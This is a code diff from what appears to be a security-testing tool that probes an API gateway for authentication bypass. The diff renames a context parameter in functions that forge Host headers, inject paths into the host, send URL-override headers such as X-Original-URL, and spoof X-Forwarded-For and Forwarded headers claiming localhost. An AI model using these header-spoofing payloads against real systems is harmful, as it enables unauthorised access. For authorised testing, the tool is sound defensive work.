@@ -3,7 +3,7 @@
 from dataclasses import replace
 
 from watchword.drill.around import armed, if_it_matters
-from watchword.drill.interface import Arena, Attack, Attempt, Attempts, Variant
+from watchword.drill.interface import Attack, AttackContext, Attempt, Attempts, Variant
 from watchword.drill.requests import credential_of, proved
 from watchword.drill.wire import Part
 from watchword.reasons import Reason
@@ -14,20 +14,20 @@ _HOSTS = ("localhost", "127.0.0.1", "internal.example")
 _URL_NAMES = ("X-Original-URL", "X-Rewrite-URL", "X-Forwarded-URI", "X-Forwarded-Path")
 
 
-def _another(arena: Arena) -> Attempts:
+def _another(context: AttackContext) -> Attempts:
     """Name a host that only insiders use, and bring no token."""
     return [
-        Attempt(sample, arena.wire.send(sample.call().with_header("Host", host)))
-        for sample in armed(arena)
+        Attempt(sample, context.wire.send(sample.call().with_header("Host", host)))
+        for sample in armed(context)
         for host in _HOSTS
     ]
 
 
-def _poisoned(arena: Arena) -> Attempts:
+def _poisoned(context: AttackContext) -> Attempts:
     """Put a path into the host, for frameworks that glue a URL together and route by it (CVE-2026-48710)."""
-    sample = arena.sample(Proof.BEARER, Proof.DEVICE, Proof.SESSION)
-    authority = arena.wire.authority(Part.GATE)
-    open_path = (arena.facts.off or ("/health",))[0]
+    sample = context.sample(Proof.BEARER, Proof.DEVICE, Proof.SESSION)
+    authority = context.wire.authority(Part.GATE)
+    open_path = (context.facts.off or ("/health",))[0]
     attempts = []
     for host in (
         f"{authority}{open_path}?",
@@ -35,39 +35,39 @@ def _poisoned(arena: Arena) -> Attempts:
         f"user@{authority}",
         f"{authority}, other.example",
     ):
-        credential = credential_of(arena.genuine(), arena.facts.audience)
-        call = proved(arena, sample.call().with_header("Host", host), credential, sample.proof)
-        attempts.append(Attempt(sample, arena.wire.send(call)))
+        credential = credential_of(context.genuine(), context.facts.audience)
+        call = proved(context, sample.call().with_header("Host", host), credential, sample.proof)
+        attempts.append(Attempt(sample, context.wire.send(call)))
     return attempts
 
 
-def _url_header(arena: Arena) -> Attempts:
+def _url_header(context: AttackContext) -> Attempts:
     """Name another URL in a header: the gate may believe it, or the API alone."""
     attempts = []
-    for sample in armed(arena):
+    for sample in armed(context):
         call = sample.call()
         for name in _URL_NAMES:
-            for off in arena.facts.off[:1] or ("/health",):
+            for off in context.facts.off[:1] or ("/health",):
                 told = call.with_header(name, off)
-                attempts.append(Attempt(sample, arena.wire.send(told)))
-            for off in arena.facts.off[:1]:
+                attempts.append(Attempt(sample, context.wire.send(told)))
+            for off in context.facts.off[:1]:
                 plain = replace(call, target=off)
                 asked = plain.with_header(name, sample.target)
-                attempts += if_it_matters(arena, sample, plain, asked)
+                attempts += if_it_matters(context, sample, plain, asked)
     return attempts
 
 
-def _forwarded(arena: Arena) -> Attempts:
+def _forwarded(context: AttackContext) -> Attempts:
     """Claim to come from inside, over a proxy that had a look already."""
     attempts = []
-    for sample in armed(arena):
+    for sample in armed(context):
         call = sample.call()
         for name in ("X-Forwarded-For", "X-Real-IP", "X-Client-IP", "True-Client-IP"):
             call = call.with_header(name, "127.0.0.1")
         call = call.with_header("Forwarded", "for=127.0.0.1;host=internal.example;proto=https")
         call = call.with_header("X-Forwarded-Host", "internal.example")
         call = call.with_header("X-Forwarded-Proto", "https").with_header("Via", "1.1 watchword")
-        attempts.append(Attempt(sample, arena.wire.send(call)))
+        attempts.append(Attempt(sample, context.wire.send(call)))
     return attempts
 
 
